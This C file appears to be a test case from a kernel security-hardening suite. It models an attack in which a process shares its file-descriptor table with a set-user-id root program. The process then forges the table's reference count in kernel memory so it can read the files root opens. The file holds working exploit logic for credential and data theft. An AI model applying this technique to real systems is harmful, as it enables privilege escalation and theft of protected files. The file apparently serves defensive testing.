// SPDX-License-Identifier: GPL-2.0-only
static inline _Bool opens_prize(void);
#define OTHER_PROGRAM opens_prize()
#include "set_id.h"

ATTACK("cred_integrity", "shared_descriptors",
       "cred_integrity: descriptors of a running task freed",
       "The attacker shares his descriptors with a process that executes a program of root with "
       "the set-user-id bit, and makes the table say that nobody else uses it, so that it is kept.",
       "How many tasks name a table of descriptors is counted in sealed memory: the program gets "
       "a copy, and a table that is named is not freed.",
       "The files that root's program opens are the attacker's, too.");

#define DESCRIPTORS 24
#define OPENED "/tmp/opened"
#define LOOKED_AT "/tmp/looked_at"

/* Root's program: it lives on until the attacker has looked. */
static inline _Bool opens_prize(void)
{
	(void)call3(__NR_open, (long)PRIZE, O_RDONLY, 0);
	leave_note(OPENED);
	await(file_is_there(LOOKED_AT));
	call1(__NR_unlink, (long)OPENED);
	call1(__NR_unlink, (long)LOOKED_AT);
	return 0;
}

static uint64_t references(void)
{
	return peek(own_task() + member("task.files")) + member("file_table.references");
}

/* Whether a descriptor of ours leads to the secret while the program runs. */
static bool sees_prize(bool alone)
{
	const long child = start_sharing(CLONE_FILES);
	char bytes[sizeof(SECRET) - 1] = { 0 };
	bool seen = false;

	if (alone)
		poke_references(references(), 1);
	start_go();
	await(file_is_there(OPENED) || call4(__NR_wait4, child, 0, 1, 0) != 0);
	for (int file = 0; file < DESCRIPTORS && !seen; file++)
		seen = call4(__NR_pread64, file, (long)bytes, sizeof(bytes), 0) ==
			       (long)sizeof(bytes) &&
		       bytes_equal(bytes, SECRET, sizeof(bytes));
	if (alone && seen)
		poke_references(references(), 2);
	leave_note(LOOKED_AT);
	(void)wait_program(child);
	return seen;
}

static bool control(void)
{
	return is_ordinary() && !sees_prize(false);
}

static bool fire(void)
{
	return sees_prize(true);
}

static void victim(void)
{
	make_set_id_program();
	victim_waits();
}
